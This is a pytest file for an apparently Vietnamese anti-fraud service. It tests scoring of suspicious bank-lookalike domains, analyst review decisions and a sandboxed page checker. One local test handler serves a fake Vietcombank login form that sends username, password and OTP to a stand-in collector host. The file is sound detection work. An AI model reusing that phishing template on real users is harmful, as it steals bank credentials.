"""The verification queue with the real name scorer and the sandboxed page check."""

from __future__ import annotations

import gzip
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from canhgiac.accounts.roles import Role
from canhgiac.detectors.domains.scorer import load_domain_scorer
from canhgiac.detectors.pages.check import UrlChecker
from canhgiac.detectors.pages.fetch import PageFetcher
from canhgiac.errors import ValidationFailed
from canhgiac.indicators.lookup import lookup
from canhgiac.verification import service
from canhgiac.verification.sources import iter_names
from tests.web.conftest import post_form

pytestmark = pytest.mark.db

SCAMS = [
    "vietcombank-xacminh-taikhoan.xyz",
    "acb.vn-hotro-khachhang.top",
    "vaytinchap-tpbank-online.xyz",
]
LEGIT = ["vnexpress.net", "vietcombank.com.vn", "dichvucong.gov.vn"]


def test_enqueue_scores_and_skips_known_names(db):
    scorer = load_domain_scorer()
    result = service.enqueue_names(
        db, scorer, [*SCAMS, *LEGIT, "not a name", "*.acb.vn-hotro-khachhang.top"], source="ct"
    )
    assert result.invalid == 1 and result.queued >= 2
    names = {c.name for c in service.list_candidates(db).items}
    assert "vietcombank-xacminh-taikhoan.xyz" in names
    assert not names & set(LEGIT)
    again = service.enqueue_names(db, scorer, SCAMS, source="ct")
    assert again.queued == 0 and again.seen_again == result.queued


def test_decisions_list_or_reject_and_feed_training(db, factories):
    service.enqueue_names(db, load_domain_scorer(), SCAMS, source="nrd")
    first, second = service.list_candidates(db).items[:2]
    with pytest.raises(ValidationFailed) as err:
        service.decide_candidate(
            db,
            first,
            confirm=True,
            category=None,
            reason="",
            decided_by_id=None,
            analyst_name="analyst",
        )
    assert err.value.field == "category"
    service.decide_candidate(
        db,
        first,
        confirm=True,
        category="fraud.impersonation.bank",
        reason="Trang giả",
        decided_by_id=None,
        analyst_name="analyst",
    )
    service.decide_candidate(
        db,
        second,
        confirm=False,
        category=None,
        reason="Trang hợp pháp",
        decided_by_id=None,
        analyst_name="analyst",
    )
    assert lookup(db, f"login.{first.name}").status == "verified"
    assert lookup(db, second.name).status == "unknown"
    assert dict(service.training_labels(db)) == {first.name: True, second.name: False}


def test_ct_sources(tmp_path):
    ct = tmp_path / "ct.jsonl.gz"
    record = {
        "message_type": "certificate_update",
        "data": {"leaf_cert": {"all_domains": ["*.vcb-xacminh.top", "vcb-xacminh.top"]}},
    }
    ct.write_bytes(gzip.compress((json.dumps(record) + "\nnot json\n").encode()))
    assert list(iter_names(ct, "ct-jsonl")) == ["*.vcb-xacminh.top", "vcb-xacminh.top"]
    csv_dump = tmp_path / "ct.csv"
    csv_dump.write_text("id,domains\n1,a-shop.xyz b-shop.top\n", encoding="utf-8")
    assert list(iter_names(csv_dump, "ct-csv")) == ["a-shop.xyz", "b-shop.top"]


class _Phish(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_GET(self):
        body = (
            "<html><title>Vietcombank - Xác minh</title><body><h1>Vietcombank</h1>"
            "<form action='https://collect.evil.example/p' method='post'><input name='username'>"
            "<input type='password' name='password'><input name='otp' placeholder='Mã OTP'></form>"
            "</body></html>"
        ).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def test_page_and_decision_through_the_web(client_factory, db, factories, settings):
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Phish)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        service.enqueue_names(db, load_domain_scorer(), SCAMS[:1], source="ct")
        candidate = service.list_candidates(db).items[0]
        port = server.server_address[1]
        fetcher = PageFetcher.from_settings(settings, resolver=lambda host, _port: ["127.0.0.1"])
        checker = UrlChecker.from_settings(settings, fetcher=fetcher, name_scorer=None)
        result = checker.check(f"http://{candidate.name}:{port}/")
        assert result.page is not None and result.score > 0.5
        candidate.capture = result.to_dict()
        db.flush()
        browser = client_factory(factories.user(role=Role.ANALYST))
        page = browser.get("/verification")
        assert candidate.name in page.text and "Vietcombank" in page.text
        done = post_form(
            browser,
            "/verification",
            f"/verification/{candidate.id}/decide",
            {"decision": "confirm", "category": "phishing", "reason": "Trang đăng nhập giả"},
        )
        assert done.status_code == 303
        db.refresh(candidate)
        assert candidate.status == "confirmed" and candidate.indicator_id
        viewer = client_factory(factories.user(role=Role.VIEWER))
        assert viewer.get("/verification").status_code == 403
    finally:
        server.shutdown()
        server.server_close()
